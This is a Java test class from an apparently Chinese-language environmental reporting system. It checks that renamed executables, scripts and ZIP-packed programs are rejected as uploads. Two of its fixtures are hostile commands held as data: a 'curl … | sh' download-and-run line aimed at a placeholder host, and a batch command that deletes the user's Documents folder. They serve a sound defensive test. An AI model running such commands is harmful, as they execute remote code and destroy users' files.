package ecopark.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import ecopark.ApplicationTest;
import ecopark.ReportFixtures;
import ecopark.base.domain.BusinessRuleException;
import ecopark.base.i18n.TranslationProvider;
import ecopark.publication.PublicationFixtures;
import ecopark.rectification.RectificationFixtures;
import ecopark.rectification.service.EvidenceService;
import ecopark.report.service.ReportAttachmentService;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Programs and scripts renamed to a document's extension or packed in a .zip, uploaded as a report attachment and as rectification
 * evidence: refused with a message that names the file and says why, and nothing is stored. (The open API accepts
 * no uploads.) Report year 4141.
 */
@ApplicationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RenamedExecutablesTest {

    @Autowired ReportFixtures reports;
    @Autowired PublicationFixtures as;
    @Autowired RectificationFixtures rectification;
    @Autowired ReportAttachmentService attachments;
    @Autowired EvidenceService evidence;

    private Long report;
    private Long task;

    /** A Linux program: the ELF header of a 64-bit x86 executable, then code. */
    static byte[] elf() {
        byte[] elf = padded(4096, 0x7F, 'E', 'L', 'F', 2, 1, 1, 0);
        elf[16] = 2;
        elf[18] = 0x3E;
        return elf;
    }

    /** A Windows program: the DOS stub's MZ, and the PE header it points to. */
    static byte[] pe() {
        byte[] pe = padded(4096, 'M', 'Z', 0x90, 0);
        pe[0x3C] = (byte) 0x80;
        System.arraycopy(new byte[] {'P', 'E', 0, 0}, 0, pe, 0x80, 4);
        return pe;
    }

    static byte[] shellScript() {
        return "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    /** A script without "#!": a Windows batch file, refused as not being the document its name claims. */
    static byte[] batchFile() {
        return "@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n".getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] padded(int length, int... start) {
        byte[] bytes = new byte[length];
        Arrays.fill(bytes, (byte) 0x90);
        for (int i = 0; i < start.length; i++) {
            bytes[i] = (byte) start[i];
        }
        return bytes;
    }

    static Stream<Arguments> renamed() {
        return Stream.of(
                Arguments.of("ELF", elf(), List.of("年度报告.pdf", "说明.docx", "数据.xlsx", "照片.jpg", "资料.zip"),
                        "filecheck.error.executable"),
                Arguments.of("PE", pe(), List.of("年度报告.pdf", "说明.docx", "数据.xlsx", "照片.jpg", "图.png"),
                        "filecheck.error.executable"),
                Arguments.of("shell script", shellScript(), List.of("年度报告.pdf", "说明.docx", "数据.xlsx", "照片.jpg"),
                        "filecheck.error.script"),
                Arguments.of("batch file as .pdf", batchFile(), List.of("年度报告.pdf"), "filecheck.error.notPdf"),
                Arguments.of("batch file as .docx", batchFile(), List.of("说明.docx"), "filecheck.error.notWord"),
                Arguments.of("batch file as .xlsx", batchFile(), List.of("数据.xlsx"), "filecheck.error.notExcel"),
                Arguments.of("batch file as .jpg", batchFile(), List.of("照片.jpg"), "filecheck.error.notImage"),
                Arguments.of("program inside a .zip", zipOf("资料/安装程序.dat", pe()), List.of("资料.zip"),
                        "filecheck.error.zipHoldsProgram"),
                Arguments.of("script inside a .zip", zipOf("说明.txt", shellScript()), List.of("资料.zip"),
                        "filecheck.error.zipHoldsProgram"),
                Arguments.of("batch file by name inside a .zip", zipOf("资料/run.BAT", batchFile()),
                        List.of("资料.zip"), "filecheck.error.zipHoldsProgram"));
    }

    /** A ZIP archive with a harmless text file and the given entry. */
    static byte[] zipOf(String entryName, byte[] entry) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("目录.txt"));
            zip.write("监测报告、台账".getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry(entryName));
            zip.write(entry);
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("renamed")
    void a_renamed_program_is_refused_as_attachment_and_as_evidence_naming_the_file(String what, byte[] content,
            List<String> names, String key) {
        if (report == null) {
            report = reports.completeReport(4141);
            task = rectification.centralTask("可执行文件作为证据", 30);
        }
        for (String name : names) {
            BusinessRuleException asAttachment = catchThrowableOfType(BusinessRuleException.class,
                    () -> as.as("cc_staff", () -> attachments.upload(report, name, content)));
            BusinessRuleException asEvidence = catchThrowableOfType(BusinessRuleException.class,
                    () -> rectification.as("cc_staff", () -> evidence.upload(task, name, content)));

            for (BusinessRuleException refused : List.of(asAttachment, asEvidence)) {
                assertThat(refused).as("%s named %s", what, name).isNotNull();
                assertThat(refused.messageKey()).isEqualTo(key);
                for (var locale : TranslationProvider.LOCALES) {
                    assertThat(TranslationProvider.translate(locale, key, refused.args())).contains(name)
                            .doesNotStartWith("!");
                }
            }
        }
        assertThat(as.as("cc_staff", () -> attachments.list(report))).isEmpty();
        assertThat(rectification.as("cc_staff", () -> evidence.list(task))).isEmpty();
    }
}
